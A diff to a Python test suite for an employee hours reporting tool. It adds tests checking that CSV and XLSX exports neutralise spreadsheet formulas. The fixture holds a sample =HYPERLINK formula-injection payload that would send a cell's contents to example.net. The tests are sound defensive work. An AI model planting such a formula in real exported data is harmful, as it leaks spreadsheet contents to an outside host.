@@ -45,12 +45,12 @@ def run(env, *args: str):
 
 def test_weekly_hours_csv_by_employee_team_and_org(db):
     period = ["--from", "2020-12-28", "--to", "2021-01-10"]  # 2020-W53 and 2021-W01
-    assert run(db, "weekly-hours", *period) == (
+    assert run(db, "weekly-hours", *period) == (  # (CliRunner reads the CRLF line ends as \n)
         "employee_code,team,week,minutes,target_minutes,met_target\n"
-        "E1,Cloud,2020-W53,120,100,True\n"
-        "E1,Cloud,2021-W01,0,100,False\n"
-        "E2,Ops,2020-W53,0,240,False\n"  # hired Wednesday of W53: counts
-        "E2,Ops,2021-W01,300,240,True\n"
+        "E1,Cloud,2020-W53,120,100,true\n"
+        "E1,Cloud,2021-W01,0,100,false\n"
+        "E2,Ops,2020-W53,0,240,false\n"  # hired Wednesday of W53: counts
+        "E2,Ops,2021-W01,300,240,true\n"
     )
     assert run(db, "weekly-hours", *period, "--by", "team").splitlines() == [
         "team,week,employees,minutes,avg_minutes_per_employee,share_meeting_target",
@@ -101,6 +101,44 @@ def test_json_and_xlsx(db, tmp_path):
     out = tmp_path / "out.csv"
     run(db, "inactive", "--as-of", "2021-01-10", "--weeks", "1", "--output", str(out))
     assert out.read_text(encoding="utf-8").startswith("employee_code,full_name,team,hire_date")
+
+
+@pytest.fixture
+def hostile_team(engine, db):
+    """A team whose name a spreadsheet would run as a formula."""
+    from sqlmodel import Session
+
+    with Session(engine) as session:
+        org = Org(session)
+        org.team(HYPERLINK)
+        org.employee("E9", team=HYPERLINK, hired="2020-01-01")
+        org.log("E9", "2021-01-05", 60)
+        org.commit()
+    return db
+
+
+HYPERLINK = '=HYPERLINK("http://example.net/?q="&A1,"Open")'
+
+
+def test_report_csv_neutralises_formulas(hostile_team):
+    text = run(hostile_team, "weekly-hours", "--from", "2021-01-04", "--to", "2021-01-10", "--by", "team")
+    cells = [row.split(",")[0] for row in text.splitlines()[1:]]
+    assert all(not cell.startswith("=") for cell in cells)
+    assert pd.read_csv(io.StringIO(text))["team"].tolist().count("'" + HYPERLINK) == 1
+
+
+def test_report_xlsx_writes_text_not_formulas(hostile_team, tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    target = tmp_path / "teams.xlsx"
+    period = ["--from", "2021-01-04", "--to", "2021-01-10", "--by", "team"]
+    run(hostile_team, "weekly-hours", *period, "--format", "xlsx", "--output", str(target))
+    with zipfile.ZipFile(target) as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
+    teams = [c.value for c in load_workbook(target).active["A"]]
+    assert HYPERLINK in teams  # shown exactly as typed, as text
 
 
 def test_each_report_documents_its_columns_in_its_help():
